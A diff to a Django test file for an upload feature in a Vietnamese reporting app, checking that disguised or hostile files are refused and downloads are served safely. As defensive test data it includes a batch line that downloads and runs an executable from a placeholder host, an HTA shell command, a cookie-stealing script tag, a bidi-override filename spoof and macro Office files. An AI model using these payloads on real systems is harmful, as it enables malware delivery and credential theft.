@@ -8,10 +8,12 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import override_settings
 from PIL import Image
 
+from reports.evidence import clean_name, safe_file_name
 from reports.models import Evidence
 from tests.reports.helpers import ReportPage, current_report
 
 PDF = b"%PDF-1.4\n1 0 obj<< /Type /Catalog >>endobj\ntrailer<<>>\n%%EOF\n"
+OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 
 
 def png_bytes():
@@ -20,10 +22,25 @@ def png_bytes():
     return buffer.getvalue()
 
 
-def docx_bytes():
+def jpeg_bytes():
+    buffer = io.BytesIO()
+    Image.new("RGB", (4, 4), "red").save(buffer, "JPEG")
+    return buffer.getvalue()
+
+
+def docx_bytes(macros=False):
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
+        if macros:  # what Word saves as .docm
+            archive.writestr(
+                "[Content_Types].xml",
+                '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+                '<Override PartName="/word/document.xml" '
+                'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+            )
+            archive.writestr("word/vbaProject.bin", OLE_MAGIC + b"\x00" * 600)
+        else:
+            archive.writestr("[Content_Types].xml", "<Types/>")
         archive.writestr("word/document.xml", "<w:document/>")
     return buffer.getvalue()
 
@@ -50,8 +67,9 @@ def upload(client, report, name, content, code="III.3.b.3"):
         ("bien-ban.pdf", PDF, "application/pdf"),
         ("anh.png", png_bytes(), "image/png"),
         ("bao-cao.docx", docx_bytes(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
-        ("ten-sai.jpg", PDF, "application/pdf"),  # the name lies; the content decides
-        ("cu.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "application/x-ole-storage"),
+        ("anh.jpeg", jpeg_bytes(), "image/jpeg"),
+        ("cu.doc", OLE_MAGIC + b"\x00" * 600, "application/x-ole-storage"),
+        ("cu.xls", OLE_MAGIC + b"\x00" * 600, "application/x-ole-storage"),
     ],
 )
 def test_it_accepts_real_documents(client, cast, report, name, content, kind):
@@ -61,7 +79,8 @@ def test_it_accepts_real_documents(client, cast, report, name, content, kind):
     assert (evidence.original_name, evidence.content_type, evidence.size) == (name, kind, len(content))
     response = client.get(f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/")
     assert b"".join(response.streaming_content) == content
-    assert name in response["Content-Disposition"]
+    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
+    assert response["Content-Type"] == kind and response["X-Content-Type-Options"] == "nosniff"
 
 
 @pytest.mark.parametrize(
@@ -113,3 +132,76 @@ def test_another_agency_cannot_download_it(client, cast, report):
     assert client.get(f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/").status_code == 403
     other = current_report(report.cycle.plan, "GDDT")
     assert client.get(f"/bao-cao/{other.pk}/minh-chung/{evidence.pk}/").status_code == 404
+
+
+# Issue 17, item 4: the files an outside probe got stored and served under their own names.
+SCRIPT = b"\r\n@echo off\r\npowershell -c iwr http://x/a.exe -OutFile a.exe; start a.exe\r\n"
+HTA = b'<hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'
+ATTACKS = [
+    ("bien-ban.pdf.bat", PDF + SCRIPT, "Tệp “bien-ban.pdf.bat” có đuôi “.bat”: không nhận loại tệp này."),
+    ("bien-ban.hta", PDF + HTA, "Tệp “bien-ban.hta” có đuôi “.hta”: không nhận loại tệp này."),
+    ("bao-cao.html", PDF + b"<script>alert(document.cookie)</script>", "có đuôi “.html”: không nhận loại tệp này"),
+    ("minh-chung\u202efdp.exe", PDF, "Tệp “minh-chungfdp.exe” có đuôi “.exe”: không nhận loại tệp này."),
+    ("bien-ban.docx", docx_bytes(macros=True), "Tệp “bien-ban.docx” là tệp Office có macro: không nhận"),
+    ("bien-ban.docm", docx_bytes(macros=True), "Tệp “bien-ban.docm” là tệp Office có macro: không nhận"),
+    ("cu.doc", OLE_MAGIC + "Macros _VBA_PROJECT".encode("utf-16-le") + b"\x00" * 600, "là tệp Office có macro"),
+    ("ten-sai.jpg", PDF, "Tên tệp “ten-sai.jpg” có đuôi “.jpg” nhưng nội dung là PDF: đổi đuôi thành “.pdf”"),
+    ("bien-ban", PDF, "Tệp “bien-ban” không có đuôi (như .pdf). Chỉ nhận tệp .doc, .docx, .jpeg, .jpg, .pdf, .png"),
+]
+
+
+@pytest.mark.parametrize(("name", "content", "message"), ATTACKS)
+def test_it_refuses_a_name_that_does_not_fit_the_content_and_keeps_the_text(
+    client, cast, report, tmp_path, name, content, message
+):
+    client.force_login(cast["canbo.ldtbxh"])
+    response = upload(client, report, name, content)
+    assert response.status_code == 422
+    html = response.content.decode()
+    assert message in html and "\u202e" not in html  # the name shown as it is, no reversed text
+    assert "Có minh chứng kèm theo." in html  # what else was typed stays
+    assert not Evidence.objects.exists() and not list(tmp_path.rglob("*.*"))
+
+
+def test_the_stored_name_is_normalised(client, cast, report):
+    client.force_login(cast["canbo.ldtbxh"])
+    name = "Bie\u0302n ba\u0309n\u202e ho\u0323p\u200b <1>.PDF"  # decomposed, a bidi override, zero width
+    assert upload(client, report, name, PDF).status_code == 302
+    evidence = Evidence.objects.get()
+    assert evidence.original_name == "Biên bản họp _1_.pdf" and evidence.content_type == "application/pdf"
+    assert evidence.file.name.endswith(".pdf") and "\u202e" not in evidence.file.name
+    response = client.get(f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/")
+    assert response["Content-Type"] == "application/pdf" and response["X-Content-Type-Options"] == "nosniff"
+    assert response["Content-Disposition"] == (
+        "attachment; filename*=utf-8''Bi%C3%AAn%20b%E1%BA%A3n%20h%E1%BB%8Dp%20_1_.pdf"
+    )
+
+
+def test_a_file_stored_before_the_check_downloads_as_its_detected_type(client, cast, report):
+    """A row left by the old upload (named .html, content PDF) is still served as a PDF attachment only."""
+    from django.core.files.base import ContentFile
+
+    entry = report.task_entries.get(section__code="III.3.b.3", role="lead")
+    evidence = Evidence.objects.create(
+        entry=entry, file=ContentFile(PDF, name="bao-cao.html"), original_name="bao-cao.html",
+        content_type="application/pdf", size=len(PDF), uploaded_by=cast["canbo.ldtbxh"],
+    )  # fmt: skip
+    client.force_login(cast["canbo.ldtbxh"])
+    response = client.get(f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/")
+    assert response["Content-Type"] == "application/pdf" and response["X-Content-Type-Options"] == "nosniff"
+    assert response["Content-Disposition"] == 'attachment; filename="bao-cao.html.pdf"'
+
+
+def test_the_file_field_offers_only_the_allowed_extensions(client, cast, report):
+    client.force_login(cast["canbo.ldtbxh"])
+    html = client.get(f"/bao-cao/{report.pk}/").content.decode()
+    assert 'accept=".doc,.docx,.jpeg,.jpg,.pdf,.png,.pptx,.xls,.xlsx"' in html
+
+
+def test_clean_name_keeps_letters_and_drops_what_hides_the_real_name():
+    assert (
+        clean_name("Bie\u0302n\u00a0ba\u0309n\u2066 \u202e\u200f  ../<x>\t.pdf ") == "Biên bản ..__x_.pdf"
+    )  # no separator left
+    assert clean_name("..\u202e") == "" and safe_file_name("..\u202e", "application/pdf") == "minh-chung.pdf"
+    assert safe_file_name("anh.JPEG", "image/jpeg") == "anh.jpeg"
+    assert safe_file_name("bao-cao.html", "application/pdf") == "bao-cao.html.pdf"
